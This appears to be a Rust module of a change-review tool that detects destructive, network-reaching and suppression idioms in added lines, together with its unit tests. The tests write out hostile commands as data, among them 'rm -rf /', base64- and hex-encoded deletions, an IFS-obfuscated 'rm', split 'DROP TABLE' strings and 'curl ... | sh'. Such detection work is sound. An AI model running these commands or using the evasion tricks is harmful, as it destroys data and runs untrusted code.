//! Lines that a fix rarely needs, told by tables of idioms: what destroys, silences a tool, reaches outside, or looks for its tests.
//!
//! A literal is looked for first, in the text as it stands, with its literals joined, and decoded once; an expression is compiled only where one
//! is found. What the old versions of the changed files said as often is moved, not added.

mod destructive;
mod imports;
mod outside;
mod probes;
mod suppressions;

use std::collections::BTreeMap;
use std::ops::Range;
use std::sync::{LazyLock, OnceLock};

use gix::bstr::ByteSlice as _;
use regex::bytes::{Regex, RegexBuilder};

use super::literals::LiteralTable;
use super::text::shown;
use super::view::{AddedRun, Form};
use super::{Judged, Objection};
use crate::change::{Change, Content, FileVersion};
use crate::policy::{FileKind, Level, Policy, Rule};

/// One way to say something that a rule objects to.
struct Idiom {
    rule: Rule,
    /// What it does, as a predicate.
    what: &'static str,
    /// Of [`lang`].
    languages: u16,
    reach: Reach,
    /// Every match holds one of these, in whatever case of ASCII.
    literals: &'static [&'static str],
    /// Matched against bytes, without Unicode. `~` stands for what may be between two words: see [`BETWEEN`].
    pattern: &'static str,
    /// What a match must not hold, in small letters.
    unless: &'static str,
}

/// The files that a rule looks at.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Reach {
    /// Neither tests nor documents.
    Production,
    /// Everything but documents.
    Code,
    Everywhere,
}

/// Languages as bits.
mod lang {
    pub const PY: u16 = 1;
    pub const JS: u16 = 1 << 1;
    pub const RS: u16 = 1 << 2;
    pub const GO: u16 = 1 << 3;
    pub const RB: u16 = 1 << 4;
    pub const PHP: u16 = 1 << 5;
    pub const JVM: u16 = 1 << 6;
    pub const NET: u16 = 1 << 7;
    pub const EX: u16 = 1 << 8;
    pub const SH: u16 = 1 << 9;
    pub const C: u16 = 1 << 10;
    /// Settings, markup and data.
    pub const DATA: u16 = 1 << 11;
    pub const ANY: u16 = u16::MAX;
    pub const CODE: u16 = !DATA;
}

/// White space, also as a literal writes it, the end of a continued line, a comment of SQL, the empty variable of shells, or the comma of a list of words.
const BETWEEN: &str = r#"(?:\s|\\[tnrfv]?|/\*[^*]{0,80}\*/|\$\{?IFS\}?|["'`]\s*,\s*["'`])+"#;

/// So many findings of one rule in one file say enough.
const MOST_PER_FILE: usize = 10;

/// So many texts of one change are counted.
const MOST_COUNTED: usize = 500;

const fn idiom(
    rule: Rule,
    (languages, reach): (u16, Reach),
    what: &'static str,
    literals: &'static [&'static str],
    pattern: &'static str,
) -> Idiom {
    Idiom {
        rule,
        what,
        languages,
        reach,
        literals,
        pattern,
        unless: "",
    }
}

static TABLES: [&[Idiom]; 5] = [
    destructive::IDIOMS,
    outside::IDIOMS,
    suppressions::IDIOMS,
    probes::IDIOMS,
    imports::IDIOMS,
];

/// All idioms in one line, and the literals of all of them in one table.
struct Known {
    idioms: Vec<(&'static Idiom, OnceLock<Regex>)>,
    literals: LiteralTable,
    /// By literal: the number of its idiom.
    numbers: Vec<usize>,
}

static KNOWN: LazyLock<Known> = LazyLock::new(|| {
    let idioms: Vec<_> = TABLES.iter().copied().flatten().collect();
    let each = idioms.iter().enumerate();
    let pairs = each.flat_map(|(n, idiom)| idiom.literals.iter().map(move |literal| (*literal, n)));
    let (literals, numbers): (Vec<&'static str>, Vec<_>) = pairs.unzip();
    let idioms = idioms.into_iter();
    Known {
        idioms: idioms.map(|idiom| (idiom, OnceLock::new())).collect(),
        literals: LiteralTable::new(literals, true),
        numbers,
    }
});

/// Collects what the added lines of a change say.
pub(super) struct Search<'a> {
    change: &'a Change,
    policy: &'a Policy,
    pub(super) objections: Vec<Objection>,
    /// How often a text stands in all old versions and in all new ones.
    counts: BTreeMap<Vec<u8>, [usize; 2]>,
    /// By path and rule.
    n_told: BTreeMap<(&'a [u8], Rule), usize>,
}

impl<'a> Search<'a> {
    pub(super) fn new(change: &'a Change, policy: &'a Policy) -> Search<'a> {
        Search {
            change,
            policy,
            objections: Vec::new(),
            counts: BTreeMap::new(),
            n_told: BTreeMap::new(),
        }
    }

    pub(super) fn lines(&mut self, judged: &Judged<'a>, added: &AddedRun<'a>) {
        let language = language(judged, added.text);
        let mut by_line: BTreeMap<(Rule, usize), Objection> = BTreeMap::new();
        for view in added.views.iter().filter(|view| view.form != Form::Listed) {
            for n in idioms_in(&view.text) {
                let idiom = KNOWN.idioms[n].0;
                if !self.applies(idiom, judged, language, view.form) {
                    continue;
                }
                let path = added.file.path.as_bytes();
                for found in idiom.matches(regex(n), &view.text) {
                    if self.n_told.get(&(path, idiom.rule)) >= Some(&MOST_PER_FILE) {
                        break;
                    }
                    let Some(source) = added.source(view, &found) else {
                        continue;
                    };
                    let line = added.line_of(source.start);
                    let is_said = by_line.contains_key(&(idiom.rule, line));
                    let is_comment = idiom.skips_comments()
                        && !matches!(view.form, Form::Base64 | Form::Hex)
                        && begins_comment(language, added.text, source.start);
                    if is_said || is_comment || self.was_there(idiom, added.text, source) {
                        continue;
                    }
                    let words = String::from_utf8_lossy(&view.text[found]);
                    let words: Vec<&str> = words.split_whitespace().collect();
                    let text = shown(&words.join(" "));
                    let name = &added.file.path;
                    let fact = format!("line {line} of `{name}` {}: `{text}`", idiom.what);
                    let objection = Objection::line(idiom.rule, name, line, fact);
                    by_line.insert((idiom.rule, line), objection);
                    *self.n_told.entry((path, idiom.rule)).or_default() += 1;
                }
            }
        }
        self.objections.extend(by_line.into_values());
    }

    fn applies(&self, idiom: &Idiom, judged: &Judged, language: u16, form: Form) -> bool {
        let is_in_reach = match idiom.reach {
            Reach::Production => !judged.is_test() && !judged.is_documentation(),
            Reach::Code => !judged.is_documentation(),
            Reach::Everywhere => true,
        };
        // What is hidden in a code may be of any language.
        let is_decoded = matches!(form, Form::Base64 | Form::Hex);
        let speaks = idiom.languages & language != 0 || is_decoded;
        let wants = !is_decoded || idiom.rule == Rule::DestructiveOperation;
        is_in_reach && speaks && wants && self.policy.level(idiom.rule) != Level::Off
    }

    /// Whether the old versions held it as often: whole lines of what destroys, the words alone of all else.
    fn was_there(&mut self, idiom: &Idiom, text: &[u8], source: Range<usize>) -> bool {
        let key = match idiom.rule {
            Rule::DestructiveOperation => whole_lines(text, source),
            _ => &text[source],
        };
        let key = key.trim_ascii();
        if !self.counts.contains_key(key) {
            // So many different ones are no move.
            if self.counts.len() >= MOST_COUNTED {
                return false;
            }
            let count = |version: &Option<FileVersion>| match version {
                Some(FileVersion {
                    content: Content::Text(text),
                    ..
                }) => text.find_iter(key).count(),
                _ => 0,
            };
            let files = self.change.files.iter();
            let pairs = files.map(|file| [count(&file.old), count(&file.new)]);
            let counts = pairs.fold([0, 0], |sum, pair| [sum[0] + pair[0], sum[1] + pair[1]]);
            self.counts.insert(key.to_vec(), counts);
        }
        let [old, new] = self.counts[key];
        new <= old
    }
}

/// The numbers of the idioms that may be in a text, each once.
fn idioms_in(text: &[u8]) -> Vec<usize> {
    let mut hits = Vec::new();
    for hit in KNOWN.literals.hits(text) {
        let n = KNOWN.numbers[hit.literal];
        if let Err(at) = hits.binary_search(&n) {
            hits.insert(at, n);
        }
    }
    hits
}

fn regex(n: usize) -> &'static Regex {
    let (idiom, compiled) = &KNOWN.idioms[n];
    compiled.get_or_init(|| {
        RegexBuilder::new(&idiom.pattern.replace('~', BETWEEN))
            .unicode(false)
            .build()
            .expect("the patterns are constant, and a test compiles them")
    })
}

impl Idiom {
    const fn unless(mut self, word: &'static str) -> Idiom {
        self.unless = word;
        self
    }

    fn matches<'t>(
        &self,
        regex: &'static Regex,
        text: &'t [u8],
    ) -> impl Iterator<Item = Range<usize>> + use<'t> {
        let unless = self.unless;
        let found = regex.find_iter(text);
        found
            .filter(move |found| {
                unless.is_empty() || !found.as_bytes().to_ascii_lowercase().contains_str(unless)
            })
            .map(|found| found.range())
    }

    /// A suppression is a comment.
    fn skips_comments(&self) -> bool {
        self.rule != Rule::SuppressionAdded
    }
}

/// The lines that a range stands on, without the line feed of the last one.
fn whole_lines(text: &[u8], range: Range<usize>) -> &[u8] {
    let start = text[..range.start].rfind_byte(b'\n').map_or(0, |at| at + 1);
    let last = range.end.saturating_sub(1).max(range.start);
    let end = text[last..]
        .find_byte(b'\n')
        .map_or(text.len(), |at| last + at);
    &text[start..end.max(start)]
}

/// By extension or name, else by the first line; everything where nothing tells.
fn language(judged: &Judged, text: &[u8]) -> u16 {
    let path = &judged.file.path;
    if judged.kind == FileKind::Documentation {
        return lang::DATA;
    }
    let name = path.file_name().to_ascii_lowercase();
    let extension = path.extension().unwrap_or_default().to_ascii_lowercase();
    match extension.as_slice() {
        b"py" | b"pyi" | b"pyx" | b"ipynb" => lang::PY,
        b"js" | b"cjs" | b"mjs" | b"jsx" | b"ts" | b"cts" | b"mts" | b"tsx" | b"vue"
        | b"svelte" | b"astro" | b"html" | b"htm" => lang::JS,
        b"rs" => lang::RS,
        b"go" => lang::GO,
        b"rb" | b"rake" | b"gemspec" | b"erb" | b"ru" => lang::RB,
        b"php" | b"phtml" | b"inc" => lang::PHP,
        b"java" | b"kt" | b"kts" | b"scala" | b"groovy" | b"gradle" | b"clj" => lang::JVM,
        b"cs" | b"fs" | b"vb" | b"cshtml" | b"razor" => lang::NET,
        b"ex" | b"exs" | b"eex" | b"heex" | b"erl" => lang::EX,
        b"sh" | b"bash" | b"zsh" | b"fish" | b"bats" | b"ps1" | b"psm1" | b"bat" | b"cmd"
        | b"mk" => lang::SH,
        b"c" | b"h" | b"cc" | b"cpp" | b"cxx" | b"hpp" | b"hh" | b"m" | b"mm" | b"swift" => lang::C,
        b"yml" | b"yaml" | b"json" | b"toml" | b"ini" | b"cfg" | b"conf" | b"xml" | b"csv"
        | b"sql" | b"css" | b"scss" | b"svg" | b"txt" | b"md" | b"rst" | b"lock" | b"snap" => {
            lang::DATA
        }
        _ if matches!(
            name.as_slice(),
            b"makefile" | b"gnumakefile" | b"dockerfile"
        ) =>
        {
            lang::SH
        }
        _ if matches!(name.as_slice(), b"rakefile" | b"gemfile") => lang::RB,
        _ => shebang(text),
    }
}

fn shebang(text: &[u8]) -> u16 {
    let first = text.lines().next().unwrap_or_default();
    if !first.starts_with(b"#!") {
        return lang::ANY;
    }
    let of: [(&[u8], u16); 6] = [
        (b"python", lang::PY),
        (b"node", lang::JS),
        (b"deno", lang::JS),
        (b"ruby", lang::RB),
        (b"php", lang::PHP),
        (b"sh", lang::SH),
    ];
    let known = of.iter().find(|(word, _)| first.contains_str(word));
    known.map_or(lang::ANY, |&(_, language)| language)
}

/// Whether the line of `at` is a comment from its beginning.
fn begins_comment(language: u16, text: &[u8], at: usize) -> bool {
    let start = text[..at].rfind_byte(b'\n').map_or(0, |at| at + 1);
    let line = text[start..].trim_ascii_start();
    let marks: &[&[u8]] = match language {
        lang::PY | lang::RB | lang::SH | lang::EX => &[b"#"],
        lang::JS | lang::RS | lang::GO | lang::JVM | lang::NET | lang::C => &[b"//", b"* ", b"/**"],
        lang::PHP => &[b"//", b"#", b"* ", b"/**"],
        _ => &[],
    };
    marks.iter().any(|mark| line.starts_with(mark)) && !line.starts_with(b"#!")
}

#[cfg(test)]
pub(super) mod testing {
    use super::*;
    use crate::perimeter::change_of::{change, judged};
    use crate::perimeter::view;

    /// The rules that speak of `text` where it is added to `path`.
    pub(in crate::perimeter) fn rules_of(path: &str, old: &str, new: &str) -> Vec<Rule> {
        let policy = Policy::load("version: 1\nextends: [default]\n", "p").expect("it loads");
        let change = change(&[(path, old, new)]);
        let files = judged(&change, |path| {
            if path.starts_with("tests/") {
                FileKind::Test
            } else if path.starts_with("docs/") {
                FileKind::Documentation
            } else {
                FileKind::Production
            }
        });
        let mut search = Search::new(&change, &policy);
        for judged in &files {
            view::added_runs(judged.file).for_each(|run| search.lines(judged, &run));
        }
        search
            .objections
            .into_iter()
            .map(|found| found.rule)
            .collect()
    }

    /// Each line of `lines` is added to a file by itself and found by `rule`, or not.
    #[track_caller]
    pub(super) fn check(rule: Rule, path: &str, lines: &str, expected: bool) {
        let mut n_lines = 0;
        for line in lines.lines().filter(|line| !line.trim().is_empty()) {
            let rules = rules_of(path, "a\n\n\n", &format!("a\n\n\n{line}\n"));
            assert_eq!(rules.contains(&rule), expected, "{path}: {line}: {rules:?}");
            n_lines += 1;
        }
        assert!(n_lines > 0, "nothing was checked");
    }
}

#[cfg(test)]
mod tests {
    use super::testing::{check, rules_of};
    use super::*;

    #[test]
    fn every_pattern_compiles_and_every_literal_is_small() {
        for (n, (idiom, _)) in KNOWN.idioms.iter().enumerate() {
            regex(n);
            assert!(!idiom.literals.is_empty(), "{}", idiom.pattern);
            for literal in idiom.literals {
                assert_eq!(literal.to_ascii_lowercase(), *literal);
                assert!(literal.len() > 1, "`{literal}` is in every text");
            }
        }
    }

    #[test]
    fn what_is_put_together_or_coded_is_read() {
        let rule = Rule::DestructiveOperation;
        check(
            rule,
            "a.py",
            r#"
db.run("DR" + "OP TABLE users")
db.run("DROP" " TABLE users")
db.run("drop   /* x */  table users")
getattr(os, "rem" + "ove")(path)
getattr(shutil, "rm" "tree")(path)
__import__("shu" + "til").rmtree(path)
run(b64decode("cm0gLXJmIC9ob21lL3VzZXIvZGF0YQ=="))
run(bytes.fromhex("726d202d7266202f686f6d652f757365722f64617461"))
subprocess.run(["rm", "-rf", path])
"#,
            true,
        );
        check(rule, "a.js", "fs[\"rm\" + \"Sync\"](path)\n", true);
        check(rule, "run.sh", "rm${IFS}-rf /\n", true);
        assert_eq!(
            rules_of("a.py", "a\n", "a\ndb.run(\"drop\n  table users\")\n"),
            [rule]
        );
        assert_eq!(
            rules_of("a.sh", "a\n", "a\ngit push \\\n  --force\n"),
            [rule]
        );
        assert_eq!(
            rules_of(
                "a.py",
                "x = (\"DROP \"\n",
                "x = (\"DROP \"\n  \"TABLE a\")\n"
            ),
            [rule]
        );
    }

    #[test]
    fn what_was_there_is_moved() {
        let old = "def a():\n    shutil.rmtree(path)\n";
        let moved = "def a():\n    if path:\n        shutil.rmtree(path)\n";
        assert_eq!(rules_of("a.py", old, moved), []);
        let twice = format!("{old}    shutil.rmtree(path)\n");
        assert_eq!(rules_of("a.py", old, &twice), [Rule::DestructiveOperation]);
        let other = old.replace("path", "'/'");
        assert_eq!(rules_of("a.py", old, &other), [Rule::DestructiveOperation]);
        let old = "import subprocess\nsubprocess.run(a)\n";
        let edited = old.replace("run(a)", "run(b)");
        assert_eq!(rules_of("a.py", old, &edited), []);
        let more = format!("{old}subprocess.run(b)\n");
        assert_eq!(rules_of("a.py", old, &more), [Rule::NetworkOrProcessAdded]);
    }

    #[test]
    fn comments_destroy_nothing_and_documents_say_what_they_like() {
        for (path, line, expected) in [
            ("a.py", "# shutil.rmtree(path) is slow", false),
            ("a.py", "x = 1  # then\nshutil.rmtree(path)", true),
            ("a.rs", "/// Like `rm -rf`.", false),
            ("a.rs", "    fs::remove_dir_all(path)?; // all", true),
            ("tests/test_a.py", "shutil.rmtree(path)", false),
            ("tests/a.sh", "rm -rf \"$dir\"", false),
            ("tests/a.sh", "rm -rf /", true),
            ("tests/a.sh", "git push --force", true),
            ("docs/a.md", "shutil.rmtree(path)", false),
            ("docs/a.md", "git push --force", false),
            ("docs/a.md", "curl https://x.example/install | sh", true),
            ("bin/tool", "rm -rf \"$dir\"", true),
            ("a.sql", "-- DROP TABLE x", true),
        ] {
            let rules = rules_of(path, "a\n", &format!("a\n{line}\n"));
            let expected: &[Rule] = if expected {
                &[Rule::DestructiveOperation]
            } else {
                &[]
            };
            assert_eq!(rules, expected, "{path}: {line}");
        }
    }

    #[test]
    fn a_hostile_file_says_little_and_soon() {
        let text = "rm -rf /\n".repeat(100_000);
        let rules = rules_of("a.sh", "a\n", &text);
        assert_eq!(rules.len(), MOST_PER_FILE);
    }
}
